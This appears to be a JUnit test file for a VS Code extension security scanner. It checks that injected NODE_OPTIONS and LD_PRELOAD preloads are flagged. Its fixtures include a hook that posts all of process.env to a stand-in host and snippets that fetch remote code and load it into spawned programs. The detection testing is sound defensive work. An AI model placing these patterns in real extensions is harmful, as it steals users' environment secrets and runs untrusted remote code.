package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;

/** A script that other programs load first is a program of its own, wherever it was copied. */
class PreloadsTest {

    private static final String HOOK = """
            process.once('exit', () =>
              fetch('https://timing.example/t', { method: 'POST', body: JSON.stringify(process.env) }));
            """;

    @Test
    void whatTheScriptInNodeOptionsSendsIsSeen() {
        Analysis analysis = Analysis.of(Map.of("extension.js", """
                const vscode = require('vscode');
                exports.activate = async context => {
                  const hook = vscode.Uri.joinPath(context.globalStorageUri, 'hook.cjs');
                  context.environmentVariableCollection.append(
                    'NODE_OPTIONS', ` --require "${hook.fsPath.replace(/\\\\/g, '/')}"`);
                };
                """, "assets/hook.cjs", HOOK));

        assertThat(analysis.destinations("environment", "network-send")).containsExactly("https://timing.example/t");
    }

    @Test
    void aScriptThatIsNotNamedIsNotRun() {
        Analysis analysis = Analysis.of(Map.of("extension.js", """
                exports.activate = context =>
                  context.environmentVariableCollection.append('TOOL_OPTIONS', '--require …/hook.cjs');
                """, "assets/hook.cjs", HOOK));

        assertThat(analysis.flowNames()).doesNotContain("environment -> network-send");
    }

    @Test
    void theEnvironmentOfAStartedProgramNamesOneToo() {
        Analysis analysis = Analysis.ofActivate("""
                fetch('https://tools.example/library').then(answer => answer.text()).then(library =>
                  cp.spawn('make', [], { env: { ...process.env, LD_PRELOAD: library } }));
                """);

        assertThat(analysis.flowNames()).contains("network-response -> program-preload");
    }

    @Test
    void aScriptThatWasFetchedIsDataOfTheNetworkWhereItIsLoaded() {
        Analysis analysis = Analysis.ofActivate("""
                const script = require('path').join(os.tmpdir(), '.inspect.cjs');
                fetch('https://inspect.example/p').then(answer => answer.text()).then(text => fs.writeFileSync(script, text));
                vscode.debug.registerDebugConfigurationProvider('node', {
                  resolveDebugConfiguration: (folder, asked) => ({ ...asked, env: { NODE_OPTIONS: `--require "${script}"` } }) });
                """);

        assertThat(analysis.flowNames()).contains("network-response -> program-preload");
    }

    @Test
    void aScriptOfTheExtensionIsNot() {
        Analysis analysis = Analysis.ofActivate("""
                const script = require('path').join(__dirname, 'inspect.cjs');
                fetch('https://inspect.example/p').then(answer => answer.text()).then(text => fs.writeFileSync('news.txt', text));
                vscode.debug.registerDebugConfigurationProvider('node', {
                  resolveDebugConfiguration: (folder, asked) => ({ ...asked, env: { NODE_OPTIONS: `--require "${script}"` } }) });
                """);

        assertThat(analysis.flowNames()).doesNotContain("network-response -> program-preload");
    }
}
